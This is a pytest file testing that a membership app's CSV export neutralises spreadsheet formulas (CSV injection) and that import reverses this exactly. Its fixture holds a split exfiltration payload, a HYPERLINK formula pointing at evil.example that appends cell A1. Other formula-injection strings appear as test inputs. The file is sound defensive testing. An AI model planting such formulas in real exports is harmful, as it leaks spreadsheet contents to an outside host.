"""Spreadsheet formulas in exported CSV are neutralised, and import undoes exactly that
(issue 11, finding 8; OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io

import pytest

from ipam.imports.csv_format import neutralise, unneutralise
from tests.api.test_bulk_csv import csvapi, export, post_csv  # noqa: F401 - fixture

JOIN = {
    "first_name": '=HYPERLINK("http://evil.example/?"&A1',
    "last_name": 'x")',
    "email_address": "formula@example.org",
    "phone_number": "+12125550123",
    "street_address": "135 Eastern Parkway",
    "city": "Brooklyn",
    "state": "NY",
    "zip_code": "11238",
    "apartment": "4F",
    "roof_access": False,
    "ncl": True,
    "latitude": 40.672,
    "longitude": -73.963,
}


@pytest.mark.parametrize(
    "cell, shown",
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1 555 555 5555", "'+1 555 555 5555"),  # not E.164: it has spaces
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("+12125550123", "+12125550123"),  # E.164 stays as it is
        ("+12125550123;+12125550124", "'+12125550123;+12125550124"),  # a list is not a phone
        ("Ada", "Ada"),
        ("", ""),
        ("'quoted", "'quoted"),
        ("'=x", "''=x"),  # a leading apostrophe before a formula is kept by the round trip
        ("a=b", "a=b"),
    ],
)
def test_neutralise_and_undo(cell, shown):
    assert neutralise(cell) == shown
    assert unneutralise(shown) == cell


def test_every_short_string_round_trips():
    alphabet = ["'", "=", "+", "-", "@", "\t", "\r", "1", "a", " "]
    cells = [""]
    for _ in range(4):
        cells = [c + ch for c in cells for ch in alphabet] + cells
    for cell in set(cells):
        assert unneutralise(neutralise(cell)) == cell, repr(cell)


def test_a_joined_formula_is_text_in_the_export_and_round_trips(csvapi):  # noqa: F811
    assert csvapi.post("/api/v1/join/", json=JOIN, role=None).status_code in (200, 201)
    csvapi.create(
        "members",
        {"name": "-Dash", "notes": "@note", "additional_phone_numbers": ["+12125550199"]},
    )
    text = csvapi.get("/api/v1/members/export.csv").text
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell.startswith(
                "+1212555"
            ), (cell, row)
    exported = export(csvapi, "members")
    joined = next(r for r in exported if r["primary_email_address"] == "formula@example.org")
    assert joined["name"].startswith("'=HYPERLINK(")
    assert joined["phone_number"] == "+12125550123"
    before = csvapi.get("/api/v1/members/").json()["results"]
    # Re-imported as is: every record stays exactly what it was (no history either).
    response = post_csv(csvapi, "members", text)
    assert response.status_code == 200, response.text
    assert csvapi.get("/api/v1/members/").json()["results"] == before
    # Imported as new records (ids dropped): the names come back without the apostrophe.
    fresh = "\n".join(csv_row(row[:-1]) for row in rows)  # without the id column
    created = post_csv(csvapi, "members", fresh).json()
    assert created["created"] == len(rows) - 1
    names = sorted(m["name"] for m in csvapi.get("/api/v1/members/?page_size=10").json()["results"])
    assert names.count(before[0]["name"]) == 2 and "-Dash" in names


def csv_row(cells: list[str]) -> str:
    """One CSV line of cells, quoted as csv.writer quotes them."""
    out = io.StringIO()
    csv.writer(out, lineterminator="").writerow(cells)
    return out.getvalue()
